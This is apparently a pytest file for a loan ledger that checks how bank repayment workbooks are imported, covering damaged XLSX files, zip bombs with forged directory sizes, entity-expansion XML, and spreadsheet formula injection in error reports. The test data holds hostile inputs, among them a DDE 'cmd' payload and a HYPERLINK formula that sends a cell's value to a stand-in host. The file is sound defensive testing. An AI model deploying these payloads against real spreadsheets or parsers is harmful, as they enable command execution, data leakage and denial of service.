"""Workbooks as careless and hostile senders make them: a stored dimension that lies, a
blank cell at the far corner of the sheet, a byte flipped in transit, a zip whose
directory understates a part, XML that declares entities. Each is read for what it holds
or refused whole with a receipt a bank clerk understands, never a traceback, never
accepted with fewer rows or columns posted than it holds. Error reports are inert: a
value that begins like a formula is shown, never run. The drop folder takes every file
after a damaged one."""

from __future__ import annotations

import csv
import io
import os
import struct
import time
import zipfile
from xml.sax.saxutils import escape

import openpyxl
import pytest
from click.testing import CliRunner

from ledger.bankfiles import dropfolder, reports
from ledger.bankfiles.imports import Problem, import_file
from ledger.cli import cli
from tests.bankfiles.conftest import TODAY, problems, state
from tests.fund.conftest import D

CONTRACT = "GH2025-0003"  # 50,000 yuan, bullet, disbursed 2025-04-01 (conftest)
HEADER = ("bank_ref", "contract_no", "paid_on", "principal", "interest", "penalty", "balance_after")
DAMAGED_ZH = "文件已损坏，请重新导出后上传"


def repayments(count: int, *, first: int = 1, penalty: str = "1.50") -> list[tuple]:
    """``count`` repayments of 100 yuan on the loan, balances following on."""
    return [
        (f"H{n}", CONTRACT, f"2025-06-{n:02d}", "100.00", "0.00", penalty, f"{50_000 - 100 * n}.00")
        for n in range(first, first + count)
    ]


def cell(ref: str, value) -> str:
    if value is None:
        return f'<c r="{ref}"/>'
    return f'<c r="{ref}" t="inlineStr"><is><t>{escape(str(value))}</t></is></c>'


def sheet_xml(rows: list[tuple], *, dimension: str | None = None, tail: str = "") -> str:
    """A worksheet of inline strings; ``tail`` is extra XML inside each data row."""
    body = []
    for number, values in enumerate(rows, start=1):
        cells = "".join(cell(f"{chr(65 + i)}{number}", v) for i, v in enumerate(values))
        extra = tail.format(row=number) if number > 1 else ""
        body.append(f'<row r="{number}">{cells}{extra}</row>')
    dim = f'<dimension ref="{dimension}"/>' if dimension else ""
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f"{dim}<sheetData>{''.join(body)}</sheetData></worksheet>"
    )


def workbook(sheet: str) -> bytes:
    """A minimal, valid XLSX package around ``sheet``."""
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    pkg = "http://schemas.openxmlformats.org/package/2006"
    parts = {
        "[Content_Types].xml": (
            f'<Types xmlns="{pkg}/content-types">'
            '<Default Extension="rels" '
            'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/xl/workbook.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
            '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/'
            'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
            "</Types>"
        ),
        "_rels/.rels": (
            f'<Relationships xmlns="{pkg}/relationships">'
            f'<Relationship Id="rId1" Type="{rel}/officeDocument" Target="xl/workbook.xml"/>'
            "</Relationships>"
        ),
        "xl/workbook.xml": (
            f'<workbook xmlns="{main}" xmlns:r="{rel}">'
            '<sheets><sheet name="还款明细" sheetId="1" r:id="rId1"/></sheets></workbook>'
        ),
        "xl/_rels/workbook.xml.rels": (
            f'<Relationships xmlns="{pkg}/relationships">'
            f'<Relationship Id="rId1" Type="{rel}/worksheet" Target="worksheets/sheet1.xml"/>'
            "</Relationships>"
        ),
        "xl/worksheets/sheet1.xml": sheet,
    }
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, text in parts.items():
            archive.writestr(name, text.encode("utf-8"))
    return out.getvalue()


def send(factory, tmp_path, data: bytes, name: str = "ICBC_repayment.xlsx"):
    path = tmp_path / name
    path.write_bytes(data)
    return import_file(factory, bank="ICBC", kind="repayment", path=path, actor="icbc", today=TODAY)


def repaid(factory) -> int:
    from ledger.fund import loans

    with factory() as s:
        return loans.get_loan(s, "ICBC", CONTRACT).repaid_principal


# ------------------------------------------------------------------------ the dimension


def test_rows_past_a_dimension_that_understates_the_sheet_are_posted(city, tmp_path):
    # Three good rows; the stored dimension claims a header and two.
    data = workbook(sheet_xml([HEADER, *repayments(3)], dimension="A1:G3"))
    receipt = send(city, tmp_path, data)
    assert (receipt.status, receipt.rows, receipt.posted, receipt.skipped) == (
        "accepted", 3, 3, 0,
    )  # fmt: skip
    assert receipt.totals["principal"] == 30_000
    assert repaid(city) == 30_000


def test_columns_past_a_dimension_that_stops_before_them_are_posted(city, tmp_path):
    # The dimension stops at E (interest): the penalty and the balance are still read.
    data = workbook(sheet_xml([HEADER, *repayments(2, penalty="2.25")], dimension="A1:E3"))
    receipt = send(city, tmp_path, data)
    assert (receipt.status, receipt.rows, receipt.posted) == ("accepted", 2, 2)
    assert receipt.totals == {
        "principal": 20_000, "interest": 0, "penalty": 450, "balance_after": 9_970_000,
    }  # fmt: skip


def test_a_bad_row_past_the_dimension_is_checked_and_rejects_the_file(city, tmp_path):
    rows = [*repayments(2), ("H3", CONTRACT, "2025-06-03", "abc", "0.00", "", "49700.00")]
    before = state(city)
    receipt = send(city, tmp_path, workbook(sheet_xml([HEADER, *rows], dimension="A1:G3")))
    assert (receipt.status, receipt.rows, receipt.error_rows) == ("rejected", 3, 1)
    assert problems(city, receipt) == [(4, "principal", "abc", "invalid-value")]
    assert state(city) == before


# ------------------------------------------------------------------------ far-out cells


@pytest.mark.parametrize(
    ("dimension", "tail", "corner"),
    [
        ("A1:XFD1048576", "", '<row r="1048576"><c r="XFD1048576"/></row>'),
        ("A1:XFD1048576", '<c r="XFD{row}"/>', ""),
        (None, '<c r="XFD{row}" s="0"><v></v></c>', '<row r="1048576"><c r="XFD1048576"/></row>'),
    ],
)
def test_a_blank_cell_at_the_far_corner_costs_nothing(city, tmp_path, dimension, tail, corner):
    sheet = sheet_xml([HEADER, *repayments(3)], dimension=dimension, tail=tail)
    sheet = sheet.replace("</sheetData>", corner + "</sheetData>")
    data = workbook(sheet)
    assert len(data) < 3_000
    started = time.monotonic()
    receipt = send(city, tmp_path, data)
    # Reading it costs what its few cells cost; before, this took over a minute.
    assert time.monotonic() - started < 5
    assert (receipt.status, receipt.rows, receipt.posted) == ("accepted", 3, 3)
    assert repaid(city) == 30_000


def test_a_value_past_the_column_limit_rejects_the_file_by_its_row(city, tmp_path):
    sheet = sheet_xml([HEADER, *repayments(2)], tail="")
    sheet = sheet.replace('</row><row r="3">', '<c r="GS2"><v>1</v></c></row><row r="3">')
    receipt = send(city, tmp_path, workbook(sheet))
    assert receipt.status == "rejected"
    assert (receipt.message, receipt.message_zh) == (
        "row 2 has more than 200 columns", "第 2 行超过 200 列",
    )  # fmt: skip


# ------------------------------------------------------------------------ damaged in transit


def good_workbook() -> bytes:
    return workbook(sheet_xml([HEADER, *repayments(3)]))


def flip_in_part(data: bytes, part: str) -> bytes:
    """``data`` with one byte of ``part``'s compressed bytes inverted."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        info = archive.getinfo(part)
    name_len, extra_len = struct.unpack_from("<HH", data, info.header_offset + 26)
    at = info.header_offset + 30 + name_len + extra_len + info.compress_size // 2
    return data[:at] + bytes([data[at] ^ 0xFF]) + data[at + 1 :]


def test_a_workbook_with_a_flipped_byte_gets_a_rejected_receipt(city, tmp_path):
    before = state(city)
    receipt = send(city, tmp_path, flip_in_part(good_workbook(), "xl/worksheets/sheet1.xml"))
    assert receipt.status == "rejected"
    assert receipt.message_zh == DAMAGED_ZH
    assert receipt.message.startswith("the XLSX workbook is damaged: ")
    assert receipt.message.endswith("; export it again")
    assert (receipt.posted, receipt.errors) == (0, 1)
    assert state(city) == before


def understate_in_directory(data: bytes, part: str, size: int) -> bytes:
    """``data`` with ``part``'s uncompressed size in the central directory set to ``size``."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        names = [info.filename for info in archive.infolist()]
    at = data.index(b"PK\x01\x02")
    out = bytearray(data)
    for _ in names:
        name_len, extra_len, comment_len = struct.unpack_from("<HHH", out, at + 28)
        if out[at + 46 : at + 46 + name_len].decode() == part:
            struct.pack_into("<I", out, at + 24, size)
        at += 46 + name_len + extra_len + comment_len
    return bytes(out)


def test_a_zip_bomb_whose_directory_understates_its_size_is_refused(city, tmp_path):
    # 60 MB of sheet XML that compresses about 1000:1, declared as 10 KB unpacked.
    rows = "".join(f'<row r="{n}"><c r="A{n}"><v>0</v></c></row>' for n in range(2, 3))
    padding = "<!--" + " " * (60 * 2**20) + "-->"
    sheet = sheet_xml([HEADER]).replace("</sheetData>", rows + "</sheetData>" + padding)
    data = understate_in_directory(workbook(sheet), "xl/worksheets/sheet1.xml", 10_000)
    assert len(data) < 200_000
    receipt = send(city, tmp_path, data)
    assert receipt.status == "rejected"
    assert receipt.message_zh == DAMAGED_ZH
    assert receipt.message == (
        "the XLSX workbook is damaged: BadZipFile: Bad CRC-32 for file "
        "'xl/worksheets/sheet1.xml'; export it again"
    )


def test_a_truncated_workbook_is_refused_as_damaged(city, tmp_path):
    data = good_workbook()
    receipt = send(city, tmp_path, data[: len(data) - 40])
    assert (receipt.status, receipt.message_zh) == ("rejected", DAMAGED_ZH)


def test_xml_that_declares_entities_is_refused_and_the_message_names_no_path(city, tmp_path):
    laughs = (
        '<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY a "aaaaaaaaaa">'
        '<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    )
    sheet = laughs + sheet_xml([HEADER, ("&b;",)]).split("?>", 1)[1].replace("&amp;b;", "&b;")
    receipt = send(city, tmp_path, workbook(sheet))
    assert receipt.status == "rejected"
    assert receipt.message == (
        "the XLSX workbook is damaged: its XML declares entities or external references, "
        "which a workbook never needs; export it again"
    )
    assert receipt.message_zh == DAMAGED_ZH
    assert str(tmp_path) not in receipt.message + receipt.message_zh


def test_a_damaged_workbook_on_the_command_line_gets_a_receipt_and_exit_1(
    city, db_url, tmp_path, monkeypatch
):
    monkeypatch.setattr("ledger.bankfiles.imports.business_today", lambda: TODAY)
    path = tmp_path / "ICBC_repayment_20251130_1.xlsx"
    path.write_bytes(flip_in_part(good_workbook(), "xl/worksheets/sheet1.xml"))
    result = CliRunner().invoke(
        cli,
        ["import", "repayment", str(path), "--bank", "ICBC", "--actor", "icbc"],
        env={"DATABASE_URL": db_url},
    )  # fmt: skip
    assert result.exit_code == 1, result.output
    assert result.exception is None or isinstance(result.exception, SystemExit)
    assert result.stdout.splitlines()[0].endswith(": rejected 已拒绝")
    assert "Traceback" not in result.output
    report = path.with_name(path.name + ".errors.csv")
    lines = list(csv.reader(report.read_text(encoding="utf-8-sig").splitlines()))
    assert lines[1][0] == "" and lines[1][3] == DAMAGED_ZH and lines[1][5] == "file-rejected"


def test_the_drop_folder_takes_the_good_file_after_a_damaged_one(city, tmp_path):
    inbox = tmp_path / "drop" / "inbox"
    inbox.mkdir(parents=True)
    damaged = inbox / "ICBC_repayment_20251101_1.xlsx"
    damaged.write_bytes(flip_in_part(good_workbook(), "xl/worksheets/sheet1.xml"))
    (inbox / "ICBC_repayment_20251102_1.xlsx").write_bytes(good_workbook())
    for path in inbox.iterdir():
        os.utime(path, (1_700_000_000, 1_700_000_000))
    done = dropfolder.process(city, tmp_path / "drop", settle_seconds=0, today=TODAY)
    assert [(o.name, o.status, o.moved_to.parent.name) for o in done] == [
        ("ICBC_repayment_20251101_1.xlsx", "rejected", "rejected"),
        ("ICBC_repayment_20251102_1.xlsx", "accepted", "processed"),
    ]
    assert sorted(p.name for p in (tmp_path / "drop" / "rejected").iterdir()) == [
        "ICBC_repayment_20251101_1.xlsx",
        "ICBC_repayment_20251101_1.xlsx.errors.csv",
        "ICBC_repayment_20251101_1.xlsx.receipt.json",
    ]
    assert list(inbox.iterdir()) == []
    assert repaid(city) == 30_000


def test_a_file_the_system_fails_on_stays_in_the_inbox_and_the_next_is_taken(
    city, tmp_path, monkeypatch
):
    inbox = tmp_path / "drop" / "inbox"
    inbox.mkdir(parents=True)
    for name in ("ICBC_repayment_20251101_1.xlsx", "ICBC_repayment_20251102_1.xlsx"):
        (inbox / name).write_bytes(good_workbook())
        os.utime(inbox / name, (1_700_000_000, 1_700_000_000))
    real = import_file

    def failing_once(factory, **kwargs):
        if kwargs["path"].name == "ICBC_repayment_20251101_1.xlsx":
            raise OSError("disk unavailable")
        return real(factory, **kwargs)

    monkeypatch.setattr(dropfolder.imports, "import_file", failing_once)
    done = dropfolder.process(city, tmp_path / "drop", settle_seconds=0, today=TODAY)
    assert [(o.name, o.status) for o in done] == [
        ("ICBC_repayment_20251101_1.xlsx", "failed"),
        ("ICBC_repayment_20251102_1.xlsx", "accepted"),
    ]
    assert [p.name for p in inbox.iterdir()] == ["ICBC_repayment_20251101_1.xlsx"]


# ------------------------------------------------------------------------ inert reports

LIVE = ['=HYPERLINK("http://x.example/?q="&A1,"看这里")', "+cmd|' /C calc'!A0", "@SUM(1+1)",
        "-2+3", "\t=1+1", "\r=1+1"]  # fmt: skip


def live_problems() -> list[Problem]:
    return [
        Problem(n, "principal", value, "invalid-value", f"amount {value} is not", "不是金额")
        for n, value in enumerate(LIVE, start=2)
    ]


def test_a_csv_report_neutralises_every_value_that_would_run_as_a_formula(tmp_path):
    path = reports.write_report(live_problems(), tmp_path / "errors.csv")
    text = path.read_bytes().decode("utf-8-sig")  # read_text would turn "\r" into "\n"
    lines = list(csv.reader(io.StringIO(text, newline="")))
    assert [line[2] for line in lines[1:]] == ["'" + value for value in LIVE]
    for line in lines[1:]:
        assert not any(text.startswith(("=", "+", "-", "@", "\t", "\r")) for text in line)


def test_an_xlsx_report_holds_the_values_as_text_never_as_formulas(tmp_path):
    path = reports.write_report(live_problems(), tmp_path / "errors.xlsx")
    with zipfile.ZipFile(path) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet
    book = openpyxl.load_workbook(path)
    values = [row[2] for row in book.active.iter_rows(min_row=2, values_only=True)]
    # XML keeps a carriage return as a line break: the value shows as given.
    assert values == [value.replace("\r", "\n") for value in LIVE]
    types = {row[2].data_type for row in book.active.iter_rows(min_row=2)}
    assert types == {"s"}


def test_a_rejected_file_with_live_values_gives_an_inert_report(city, tmp_path):
    rows = [(f"H{n}", CONTRACT, "2025-06-01", value, "0.00", "", "49900.00")
            for n, value in enumerate(LIVE[:4], start=1)]  # fmt: skip
    receipt = send(city, tmp_path, workbook(sheet_xml([HEADER, *rows])))
    assert receipt.status == "rejected"
    report = reports.write_receipt_report(city, receipt.id, tmp_path / "r.csv")
    assert [p.value for p in report] == LIVE[:4]
    text = (tmp_path / "r.csv").read_text(encoding="utf-8-sig")
    assert [line[2] for line in csv.reader(io.StringIO(text, newline=""))][1:] == [
        "'" + value for value in LIVE[:4]
    ]


def test_dates_in_repayments_are_unaffected(city, tmp_path):
    # A date-styled number still reads as the date it shows.
    book = openpyxl.Workbook()
    book.active.append(HEADER)
    book.active.append(["H1", CONTRACT, D(2025, 6, 1), 100, 0, None, 49_900])
    out = io.BytesIO()
    book.save(out)
    receipt = send(city, tmp_path, out.getvalue())
    assert (receipt.status, receipt.posted) == ("accepted", 1)
    with city() as s:
        from ledger.fund import loans

        assert loans.get_loan(s, "ICBC", CONTRACT).last_paid_on == D(2025, 6, 1)
